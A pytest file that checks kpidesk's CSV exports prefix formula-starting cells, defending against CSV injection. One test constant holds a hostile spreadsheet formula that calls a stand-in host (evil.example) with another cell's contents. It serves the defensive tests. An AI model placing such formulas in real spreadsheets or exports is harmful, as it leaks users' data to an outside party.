"""Every CSV kpidesk writes shows people's text literally in Excel (OWASP CSV injection)."""

from __future__ import annotations

import csv
import datetime as dt
import json
from pathlib import Path

import pytest

from kpidesk.cli.main import main
from kpidesk.data.db import Database
from kpidesk.domain.csvsafe import FORMULA_STARTS, escape_cell
from kpidesk.engine.run import run_for_date
from kpidesk.services.caller import SYSTEM_CLI
from kpidesk.services.team import team_scores

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_each_dangerous_start_is_prefixed(start: str) -> None:
    assert escape_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("text", ["Mette", "", "1-2", "a=b", "'=already"])
def test_harmless_text_is_unchanged(text: str) -> None:
    assert escape_cell(text) == text


def test_team_export_escapes_names_logins_profiles_and_rule_names(
    db_url: str, db: Database, tmp_path: Path
) -> None:
    crm = tmp_path / "crm"
    crm.mkdir()
    (crm / "users.csv").write_text(
        "login,name,email,role,active,profile\n"
        f'@mette,"{HOSTILE.replace(chr(34), chr(34) * 2)}",,user,true,+Salg\n'
        "lars,-Lars,,user,true,+Salg\n",
        encoding="utf-8",
    )
    assert main(["--db", db_url, "import-crm", str(crm)]) == 0
    setup = {
        "version": 1,
        "profiles": ["+Salg"],
        "rules": [{"name": "=1+1", "template": "new_opportunities", "params": {}, "target": 3,
                   "profiles": ["+Salg"], "active": True}],
    }  # fmt: skip
    (tmp_path / "setup.json").write_text(json.dumps(setup), encoding="utf-8")
    assert main(["--db", db_url, "setup", "import", str(tmp_path / "setup.json")]) == 0
    run_for_date(db, dt.date(2026, 3, 20))

    path = tmp_path / "team.csv"
    team_scores(db, SYSTEM_CLI, as_of=dt.date(2026, 3, 20)).to_csv(path)
    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
    assert rows[0][3:] == ["'=1+1", "'=1+1: score (%)"]
    body = sorted(rows[1:])
    assert body == [
        ["'@mette", "'" + HOSTILE, "'+Salg", "0", "0"],
        ["lars", "'-Lars", "'+Salg", "0", "0"],
    ]
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


def test_demo_export_files_hold_no_formula_cells(tmp_path: Path) -> None:
    """The demo's CSV files are written by kpidesk too; nothing in them may start a formula."""
    from kpidesk.data.demo import write_demo_export

    write_demo_export(tmp_path, users=8, activities=200, seed=3, as_of=dt.date(2026, 3, 20))
    files = sorted(tmp_path.glob("*.csv"))
    assert files
    for file in files:
        with file.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    if cell[:1] == "-" and cell[1:].replace(".", "").isdigit():
                        continue  # a negative number is data, not text
                    assert not cell.startswith(FORMULA_STARTS), (file.name, cell)
